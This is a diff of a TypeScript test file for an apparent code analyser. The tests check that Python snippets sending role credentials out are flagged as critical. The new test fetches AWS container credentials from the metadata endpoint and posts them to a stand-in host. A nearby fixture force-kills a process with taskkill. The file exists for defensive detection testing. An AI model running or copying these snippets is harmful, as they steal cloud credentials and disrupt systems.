@@ -29,6 +29,10 @@ test('the keys of a role may be asked for by what the same service gave, and go 
   expect(await found(credentialsToNetwork, `import requests\nrequests.post("https://leaf.example.invalid", json=${ROLE}.json())\n`)).toEqual(['critical']);
 });
 
+test('a container is given the keys of its role at an address that a variable ends', async () => {
+  expect(await found(credentialsToNetwork, 'import os, requests\nkeys = requests.get("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]).json()\nrequests.post("https://leaf.example.invalid", json=keys)\n')).toEqual(['critical']);
+});
+
 const STAND_IN = (name: string): string => `import os\ntry:\n    from functools import ${name}\nexcept ImportError:\n    def ${name}(f):\n        return f\ndef threaded(f):\n    @${name}(f)\n    def inner():\n        f()\n    return inner\n@threaded\ndef stop():\n    os.system("taskkill /F /pid 1")\n`;
 const when = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.when);
 
